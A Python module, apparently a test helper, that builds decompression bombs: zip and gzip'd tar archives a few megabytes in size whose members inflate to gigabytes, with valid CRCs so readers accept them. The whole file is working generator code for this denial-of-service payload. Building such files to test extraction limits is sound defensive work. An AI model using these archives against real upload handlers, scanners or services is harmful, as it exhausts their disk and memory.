"""Decompression bombs, built in a second: a zip member or a gzip'd tar member that inflates to
gigabytes from a file of a few MB.

The deflate stream is one compressed megabyte-chunk repeated: a chunk compressed by a fresh
compressor and ended with a full flush is byte-aligned and refers to nothing before it, so
copies of it concatenate into a valid stream (the final, empty block ends it). The CRC is
computed over the real content, so every reader takes the file for what it claims to be.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zlib

MiB = 1 << 20


def _chunk(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)


def _end() -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.flush(zlib.Z_FINISH)


def deflate_stream(head: bytes, fill: bytes, megabytes: int, tail: bytes = b"") -> tuple[bytes, int, int]:
    """(raw deflate data, CRC-32, size) of ``head`` + ``fill`` repeated up to ``megabytes`` MiB
    in all (``head`` shorter than 1 MiB) + ``tail``."""
    first = head + fill * ((MiB - len(head)) // len(fill))
    first += fill[: MiB - len(first)]
    body = fill * (MiB // len(fill))
    crc = zlib.crc32(first)
    for _ in range(megabytes - 1):
        crc = zlib.crc32(body, crc)
    crc = zlib.crc32(tail, crc)
    raw = _chunk(first) + _chunk(body) * (megabytes - 1) + (_chunk(tail) if tail else b"") + _end()
    return raw, crc, megabytes * MiB + len(tail)


def zip_with_bomb(members: dict[str, bytes], bomb_name: str, bomb: tuple[bytes, int, int]) -> bytes:
    """A zip of ``members`` (stored) plus ``bomb_name`` holding the deflate stream ``bomb``."""
    out = io.BytesIO()
    central = []
    entries = [(name, data, zlib.crc32(data), len(data), 0) for name, data in members.items()]
    raw, crc, size = bomb
    entries.append((bomb_name, raw, crc, size, 8))
    for name, data, crc32, usize, method in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc32, len(data), usize, len(encoded), 0))
        out.write(encoded + data)
        central.append(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc32, len(data), usize, len(encoded), 0, 0, 0, 0,
                        0o644 << 16, offset) + encoded
        )
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def tar_gz_with_bomb(member: str, head: bytes, megabytes: int) -> bytes:
    """A gzip'd tar holding one file ``member`` that starts with ``head`` and is ``megabytes``
    MiB (less its 512-byte tar header) of NULs in all."""
    size = megabytes * MiB - 512
    info = tarfile.TarInfo(member)
    info.size = size
    info.mtime = 315532800
    header = info.tobuf(format=tarfile.USTAR_FORMAT)
    assert len(header) == 512
    raw, crc, total = deflate_stream(header + head, b"\0", megabytes, tail=b"\0" * 1024)
    gz_header = gzip.compress(b"", mtime=0)[:10]
    return gz_header + raw + struct.pack("<II", crc, total & 0xFFFFFFFF)
